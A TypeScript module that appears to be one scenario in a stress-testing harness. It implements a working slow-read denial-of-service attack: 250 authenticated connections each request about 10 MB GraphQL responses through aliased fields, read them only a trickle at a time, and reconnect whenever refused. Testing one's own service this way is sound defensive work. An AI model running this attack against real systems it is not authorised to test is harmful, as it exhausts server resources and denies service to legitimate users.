import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Target } from './attack.js';
import { aliased, graphqlBody } from './client.js';

const connections = 250;
/** What the attackers read, in bytes, and how often, in milliseconds. */
const sip = { bytes: 6_000, every: 30_000 };
const body = graphqlBody(`{ resourceHubDocument(id: "long") { ${aliased(10, 'content')} } }`);

export const unreadResponses: Attack = {
  title: `one token asks for responses of 10 MB on ${connections} connections, and reads none`,
  strike: async (target) => {
    await Promise.all(Array.from({ length: connections }, () => readNothing(target)));
  },
};

/** Asks again whenever it is refused or disconnected. */
async function readNothing({ base, token, isOver, count }: Target): Promise<void> {
  const { hostname, port } = new URL(base);
  while (!isOver()) {
    const socket = connect(Number(port), hostname).on('error', () => {});
    socket.write(
      `POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token}\r\n` +
        `Content-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
    );
    const status = await statusOf(socket);
    count(status);
    if (status === '200') await sipFrom(socket, isOver);
    else await sleep(1_000);
    socket.destroy();
  }
}

async function statusOf(socket: Socket): Promise<string> {
  while (!socket.destroyed) {
    const start: Buffer | null = socket.read(12);
    if (start) return start.toString('latin1').split(' ')[1] ?? '';
    await Promise.race([once(socket, 'readable'), once(socket, 'close')]).catch(() => {});
  }
  return 'no response';
}

async function sipFrom(socket: Socket, isOver: () => boolean): Promise<void> {
  let readAt = 0;
  while (!socket.destroyed && !isOver()) {
    if (performance.now() - readAt > sip.every) {
      socket.read(sip.bytes);
      readAt = performance.now();
    }
    await sleep(100);
  }
}
